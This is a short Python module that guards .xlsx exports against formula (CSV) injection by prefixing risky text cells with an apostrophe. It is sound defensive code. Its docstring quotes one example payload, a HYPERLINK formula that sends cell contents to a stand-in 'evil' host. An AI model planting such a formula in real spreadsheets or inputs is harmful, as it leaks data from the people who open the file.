"""Spreadsheet exports without formula injection: the one helper every .xlsx exporter uses.

A text cell that begins with = + - @ (or a tab or carriage return) is read by Excel and WPS as a formula, so a
case title such as `=HYPERLINK("http://evil/?"&A1)` typed by anyone would run on the official's machine when the
export is opened (OWASP "CSV injection"). Such text is written with a leading apostrophe: it shows as the text
it is and is never evaluated. Numbers, dates and booleans are left alone.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe(value: Any) -> Any:
    """The value as a spreadsheet cell may hold it: text that would start a formula is prefixed with "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe(v) for v in values]


def neutralise(workbook) -> None:
    """Make every text cell of a (normal, not write-only) workbook safe, just before it is saved."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type in ("s", "f") and isinstance(cell.value, str):
                    cell.value = safe(cell.value)
                    if cell.value.startswith("'"):
                        cell.data_type = "s"
